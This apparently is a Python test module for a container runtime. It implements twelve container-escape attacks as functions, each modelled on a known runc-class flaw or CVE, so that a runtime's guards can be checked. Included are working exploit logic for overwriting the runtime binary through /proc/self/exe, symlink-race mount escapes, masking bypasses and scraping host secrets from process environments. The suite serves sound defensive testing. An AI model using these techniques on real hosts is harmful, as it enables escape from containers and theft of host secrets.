"""Ways out of a container that have worked on some runtime, each named after what it tries.

An attack is a function: it gets a container that is not created yet, tries, and returns its loot, the proof that it
worked; or ``""`` when it came away with nothing, which includes being refused. It knows the runtime by its command
line alone. ``test_attacks.py`` expects nothing of every runtime, and ``tests/run/test_attacks.py`` takes the guards out
of ours, one after the other, and expects loot: else it would be the attack that is broken.

The runtime is called by a careless caller (:func:`careless`), which leaves open what it should have closed.
"""

from __future__ import annotations

import shutil
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

from ..patience import patience
from .harness import Container, Failure, Runtime

Attack = Callable[[Container], str]

SECRET = "of the host alone"
GROUP = 4242
"""A group of the caller's."""


def overwrite_the_runtime(container: Container) -> str:
    """Have the runtime's program run in the container, hold it open, and write to it when it has ended.

    A script whose interpreter is /proc/self/exe is run by whatever executes it: by the runtime. The victim is a copy.
    """
    runtime, victim = _copy_of_the_runtime(container)
    before = victim.read_bytes()
    (container.rootfs / "script").write_text("#!/proc/self/exe\nimport time\ntime.sleep(1)\n")
    (container.rootfs / "script").chmod(0o755)
    _give_the_hosts_libraries(container)
    container.shell(
        """
        while :; do for process in /proc/[1-9]*; do
            [ $process/exe -ef /bin/busybox ] || {
                times=0
                until echo overwritten > /proc/self/fd/9 || [ $times = 150 ]; do
                    times=$((times + 1)); sleep 0.02
                done
                touch /tmp/tried
            } 9< $process/exe
        done; done 2> /dev/null
        """
    )
    with _called_as(container, runtime):
        container.create().start()
        for _ in range(3):
            try:
                container.exec("/script")
            except (Failure, OSError):
                continue  # it ran, and ended in whatever way; or it is a program no more
        give_up = time.monotonic() + patience(2)
        while time.monotonic() < give_up and not (container.rootfs / "tmp/tried").exists():
            time.sleep(0.05)
    return "the runtime's program" if victim.read_bytes() != before else ""


def stand_in_a_leaked_directory(container: Container) -> str:
    """Ask for a working directory that is a descriptor of the host's (CVE-2024-21626)."""
    secret = _secret(container)
    container.process["cwd"] = "/proc/self/fd/9"
    return _loot(container.args("cat", f".{secret}"), SECRET)


def read_through_a_leaked_descriptor(container: Container) -> str:
    """Use a descriptor that the runtime's caller had open."""
    secret = _secret(container)
    return _loot(container.args("cat", f"/proc/self/fd/9{secret}"), SECRET)


def mount_outside(container: Container) -> str:
    """Have a mount point made through a symbolic link of the image that leads out."""
    victim = _victim(container)
    (container.rootfs / "data").symlink_to(victim)
    container.config["mounts"].append({"destination": "/data/inner", "type": "tmpfs", "source": "tmpfs"})
    _loot(container.args("true"), "")
    return _names_in(victim)


def mount_outside_by_a_swapped_link(container: Container) -> str:
    """The same, with a link that is harmless when it is looked at and not when it is used (CVE-2021-30465)."""
    victim = _victim(container)
    (container.rootfs / "inside").mkdir()
    (container.rootfs / "data").symlink_to("inside")
    container.config["mounts"].append({"destination": "/data/inner", "type": "tmpfs", "source": "tmpfs"})
    with _swapping(container.rootfs / "data", ["inside", str(victim)]):
        for _ in range(30):  # about every other one works where no guard is, and fewer on a busy host
            _loot(container.args("true"), "")
            container.end()
            if found := _names_in(victim):
                return found
    return ""


def make_devices_outside(container: Container) -> str:
    """Have device nodes made in a folder of the host's, by a link at /dev."""
    victim = _victim(container)
    (container.rootfs / "dev").rmdir()
    (container.rootfs / "dev").symlink_to(victim)
    container.config["mounts"] = [each for each in container.config["mounts"] if each["type"] == "proc"]
    _loot(container.args("true"), "")
    return _names_in(victim)


def put_proc_behind_a_link(container: Container) -> str:
    """Have /proc mounted elsewhere, so that what is masked and written later is not the kernel's (CVE-2023-28642)."""
    (container.rootfs / "proc").rmdir()
    (container.rootfs / "elsewhere").mkdir()
    (container.rootfs / "proc").symlink_to("elsewhere")
    return _loot(container.args("readlink", "/proc"), "elsewhere")


def put_a_folder_over_proc(container: Container) -> str:
    """Have a folder of the image's own at /proc, where a label is written to and read back (CVE-2019-16884)."""
    fake = container.bundle / "fake"
    (fake / "self/attr").mkdir(parents=True)
    (fake / "self/attr/exec").touch()
    container.config["mounts"].append(
        {"destination": "/proc", "type": "bind", "source": str(fake), "options": ["bind"]}
    )
    return _loot(container.shell("[ -s /proc/version ] || echo fake"), "fake")


def unmask_by_another_null(container: Container) -> str:
    """Bring a /dev whose null is the very file that it is to hide (CVE-2025-31133)."""
    devices = container.bundle / "devices"
    devices.mkdir()
    (devices / "null").symlink_to("/masked")
    (container.rootfs / "masked").write_text(SECRET)
    container.config["mounts"] = [
        {"destination": "/proc", "type": "proc", "source": "proc"},
        {"destination": "/dev", "type": "bind", "source": str(devices), "options": ["bind"]},
    ]
    container.linux["maskedPaths"] = ["/masked"]
    return _loot(container.args("cat", "/masked"), SECRET)


def have_a_setting_written_elsewhere(container: Container) -> str:
    """Bring a /proc in which a kernel's setting is a link to another file (CVE-2025-52881)."""
    setting = container.rootfs / "proc/sys/net/ipv4/ip_default_ttl"
    setting.parent.mkdir(parents=True)
    setting.symlink_to("/loot")
    loot = container.rootfs / "loot"
    loot.touch()
    container.config["mounts"] = [each for each in container.config["mounts"] if each["type"] != "proc"]
    container.linux["sysctl"] = {"net.ipv4.ip_default_ttl": "77"}
    _loot(container.args("true"), "")
    return loot.read_text()


def read_the_runtime_while_it_joins(container: Container) -> str:
    """Look into the process of ``exec`` before it has become the program: at its environment, which is the host's."""
    # A long search for the program gives time between the last right that is given up and the program.
    container.process["env"] = ["PATH=" + ":".join([*(f"/none/{number}" for number in range(3000)), "/bin"])]
    container.shell(
        """
        while :; do for process in /proc/[2-9]* /proc/1[0-9]*; do
            { line=; read -r line; case "$line" in *SECRET=*) echo "$line";; esac; } < $process/environ
        done; done 2> /dev/null
        """
    )
    with _called_as(container, careless(container)):
        container.create().start()
        for _ in range(20):
            container.exec("true")
    return SECRET if SECRET in container.output.read_text(errors="replace") else ""


def keep_the_callers_groups(container: Container) -> str:
    """Still be in the groups of whoever called the runtime."""
    return _loot(container.args("grep", "^Groups:", "/proc/self/status"), str(GROUP))


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        overwrite_the_runtime,
        stand_in_a_leaked_directory,
        read_through_a_leaked_descriptor,
        mount_outside,
        mount_outside_by_a_swapped_link,
        make_devices_outside,
        put_proc_behind_a_link,
        put_a_folder_over_proc,
        unmask_by_another_null,
        have_a_setting_written_elsewhere,
        read_the_runtime_while_it_joins,
        keep_the_callers_groups,
    )
}


def careless(container: Container) -> Runtime:
    """The container's runtime by way of a caller that has / open, a secret in its environment, and a group of its own.

    The runtime runs with the caller's descriptor 9.
    """
    caller = container.bundle / "caller"
    program = container.runtime.program
    caller.write_text(f'#!/bin/sh\nexec 9< /\nSECRET="{SECRET}" exec setpriv --groups {GROUP} {program} "$@"\n')
    caller.chmod(0o755)
    return Runtime(str(caller), container.runtime.folder)


@contextmanager
def _called_as(container: Container, runtime: Runtime) -> Iterator[None]:
    """The container under *runtime*, which keeps its records where the container's own does."""
    own, container.runtime = container.runtime, runtime
    try:
        yield
    finally:
        container.runtime = own


def _loot(container: Container, wanted: str) -> str:
    """Run the container; *wanted* if it wrote that."""
    with _called_as(container, careless(container)):
        try:
            container.create().start().wait("stopped")
        except Failure:
            return ""  # refused
    return wanted if wanted in container.output.read_text(errors="replace") else ""


def _secret(container: Container) -> Path:
    """A file of the host's."""
    secret = container.bundle / "secret"
    secret.write_text(SECRET)
    return secret.resolve()


def _victim(container: Container) -> Path:
    """A folder of the host's, empty."""
    victim = container.bundle.parent / f"{container.bundle.name}-victim"
    victim.mkdir()
    return victim.resolve()


def _names_in(folder: Path) -> str:
    return " ".join(sorted(path.name for path in folder.iterdir()))


@contextmanager
def _swapping(link: Path, targets: list[str]) -> Iterator[None]:
    """*link* points to each of *targets* in turn, as fast as can be."""
    ended = threading.Event()

    def swap() -> None:
        fresh = link.parent.parent / "fresh"
        while not ended.is_set():
            for target in targets:
                fresh.symlink_to(target)
                fresh.rename(link)
                time.sleep(0.0005)

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        yield
    finally:
        ended.set()
        thread.join()


def _copy_of_the_runtime(container: Container) -> tuple[Runtime, Path]:
    """The runtime with a copy of its program, and that copy. Of a script in Python it is the interpreter's."""
    program, copy = Path(container.runtime.program), container.bundle / "copy"
    (copy / "bin").mkdir(parents=True)
    victim = copy / "bin" / ("python" if program.read_bytes()[:2] == b"#!" else program.name)
    if victim.name != "python":
        shutil.copy(program, victim)
        return Runtime(str(victim), container.runtime.folder), victim
    environment = Path(sys.executable).parent.parent
    shutil.copy(Path(sys.executable).resolve(), victim)
    shutil.copy(environment / "pyvenv.cfg", copy)
    (copy / "lib").symlink_to(environment / "lib")
    script = copy / "bin" / program.name
    script.write_text(f"#!{victim}\n{program.read_text().partition(chr(10))[2]}")
    script.chmod(0o755)
    return Runtime(str(script), container.runtime.folder), victim


def _give_the_hosts_libraries(container: Container) -> None:
    """The host's /usr, read-only: an attacker's image has whatever the stolen program needs."""
    container.config["mounts"].append(
        {"destination": "/usr", "type": "bind", "source": "/usr", "options": ["rbind", "ro"]}
    )
    for name in ("lib", "lib64"):
        (container.rootfs / name).symlink_to(f"usr/{name}")
